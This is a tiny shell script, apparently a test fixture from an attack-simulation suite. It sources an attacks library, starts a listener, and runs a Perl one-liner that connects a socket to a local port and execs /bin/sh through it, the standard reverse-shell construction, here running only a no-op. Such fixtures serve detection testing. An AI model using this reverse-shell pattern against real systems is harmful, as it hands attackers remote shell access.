. "$ATTACKS/lib.sh"
listen
perl -MIO::Socket::INET -e '
my $peer = IO::Socket::INET->new(PeerAddr => "127.0.0.1:$ARGV[0]") or die;
open(STDIN, "<&", $peer) and open(STDOUT, ">&", $peer) or die;
exec "/bin/sh", "-c", ":"' "$port"
